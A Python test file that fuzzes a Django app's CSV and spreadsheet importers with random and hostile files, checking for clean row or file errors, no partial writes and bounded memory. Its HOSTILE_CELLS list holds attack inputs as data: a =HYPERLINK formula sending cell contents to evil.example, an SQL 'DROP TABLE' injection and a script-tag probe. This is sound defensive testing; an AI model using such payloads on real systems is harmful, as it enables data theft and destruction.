"""Bad input never hurts: random and hostile files thrown at every import answer with row errors or a clear
file error — never a crash, never a partial write — and memory stays bounded."""

import csv
import io
import tracemalloc

import pytest
from django.apps import apps
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from imports import registry
from imports.base import ImportFailed
from imports.tables import FileError, read_table
from territories.qpv_import import QPVImport, _records_from_table

pytestmark = pytest.mark.django_db

KINDS = registry.kinds()
WATCHED = [
    "territories.CLSM",
    "territories.QPV",
    "sessions_app.SessionRequest",
    "sessions_app.AwarenessSession",
    "sessions_app.Participant",
    "sessions_app.Structure",
    "evaluation.Response",
    "evaluation.Answer",
    "evaluation.Need",
]
HOSTILE_CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"cliquez")',
    "=1+1",
    "+33 6 12 34 56 78",
    "@SUM(A1:A9)",
    "-2+3",
    "'; DROP TABLE territories_clsm; --",
    "<script>alert(1)</script>",
    "\x00\x01\x02",
    "é" * 5000,
    "QN05971M;QN99999Z",
    "31/02/2024",
    "2024-13-45",
    "99",
    "-1",
    "oui;non",
    " ",
    "\u202e\u200b",
]


def counts():
    return {name: apps.get_model(name).objects.count() for name in WATCHED}


def run_import(kind: str, data: bytes, filename: str = "fichier.csv"):
    """Returns "ok", "row errors" or "file error"; anything else propagates and fails the test."""
    try:
        table = read_table(data, filename=filename)
        if kind == "qpv":
            path_free = _records_from_table_bytes(table)
            QPVImport(path_free).apply()
        else:
            registry.get(kind)().run(table)
        return "ok"
    except ImportFailed as exc:
        assert exc.errors and all(str(e).startswith(("ligne", "entité", "entrée")) for e in exc.errors)
        return "row errors"
    except FileError as exc:
        assert str(exc)
        return "file error"


def _records_from_table_bytes(table):
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "qpv.csv"
        buffer = io.StringIO()
        writer = csv.writer(buffer, delimiter=";")
        writer.writerow(table.headers)
        for row in table.rows:
            writer.writerow([row.get(h) for h in table.headers])
        path.write_text(buffer.getvalue(), encoding="utf-8")
        return _records_from_table(path)


def headers_of(kind):
    if kind == "qpv":
        return ["code_qp", "lib_qp", "insee_dep", "insee_com"]
    return [column.name for column in registry.get(kind).columns]


cell = st.one_of(st.sampled_from(HOSTILE_CELLS), st.text(max_size=40))


@st.composite
def hostile_csv(draw, kind):
    headers = headers_of(kind)
    if draw(st.booleans()):
        headers = draw(st.permutations(headers))[: draw(st.integers(0, len(headers)))]
    rows = draw(st.lists(st.lists(cell, min_size=0, max_size=len(headers) + 2), max_size=6))
    delimiter = draw(st.sampled_from([";", ",", "\t"]))
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    text = buffer.getvalue().replace("\x00", "")
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "latin-1", "utf-16"]))
    return text.encode(encoding, errors="replace")


@pytest.mark.parametrize("kind", [*KINDS, "qpv"])
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(data=st.data())
def test_random_and_hostile_files_never_crash_nor_write_partially(kind, data):
    content = data.draw(hostile_csv(kind))
    before = counts()
    outcome = run_import(kind, content)
    if outcome != "ok":
        assert counts() == before


@pytest.mark.parametrize("kind", [*KINDS, "qpv"])
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(content=st.binary(max_size=2000))
def test_random_bytes(kind, content):
    before = counts()
    outcome = run_import(kind, content, filename=("x.xlsx" if content[:2] == b"PK" else "x.csv"))
    if outcome != "ok":
        assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "file error"),
        (b"\xef\xbb\xbf", "file error"),
        ("nom;statut\nCLSM é;actif\n".encode("latin-1"), "file error"),
        (b"PK\x03\x04 not really a spreadsheet", "file error"),
        (b"colonne_inconnue\nvaleur\n", "row errors"),
    ],
)
def test_known_hostile_files(kind, content, expected):
    before = counts()
    assert run_import(kind, content) == expected
    assert counts() == before


@pytest.mark.parametrize("kind", KINDS)
def test_hundred_thousand_bad_rows_stay_bounded(kind):
    headers = headers_of(kind)
    line = ";".join(['=HYPERLINK("x")'] * len(headers))
    content = (";".join(headers) + "\n" + "\n".join([line] * 100_000)).encode()
    before = counts()
    tracemalloc.start()
    try:
        outcome = run_import(kind, content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert outcome == "row errors"
    assert counts() == before
    assert peak < 400 * 1024 * 1024, f"pic mémoire {peak / 1e6:.0f} Mo"


def test_a_file_wrong_everywhere_reports_the_first_thousand_errors_and_says_it_stopped():
    from imports.base import MAX_REPORTED_ERRORS

    content = ("nom;statut\n" + "\n".join(f"CLSM {n};peut-être" for n in range(5000))).encode()
    with pytest.raises(ImportFailed) as failure:
        registry.get("clsm")().run(read_table(content))
    errors = failure.value.errors
    assert len(errors) == MAX_REPORTED_ERRORS + 1
    assert str(errors[0]) == (
        "ligne 2, colonne statut : valeur inconnue « peut-être » (valeurs possibles : actif, en_projet)"
    )
    assert "vérification arrêtée après 1000 erreurs (le fichier compte 5000 lignes)" in str(errors[-1])


def test_huge_cell_is_a_clear_file_error_not_a_crash():
    content = ("nom;statut\n" + "A" * 2_000_000 + ";actif\n").encode()
    before = counts()
    with pytest.raises(FileError, match="une cellule dépasse 131 072 caractères"):
        read_table(content)
    assert run_import("clsm", content) == "file error"
    assert counts() == before


def test_long_cell_under_the_csv_limit_is_a_row_error():
    content = ("nom;statut\n" + "A" * 100_000 + ";actif\n").encode()
    assert run_import("clsm", content) == "row errors"
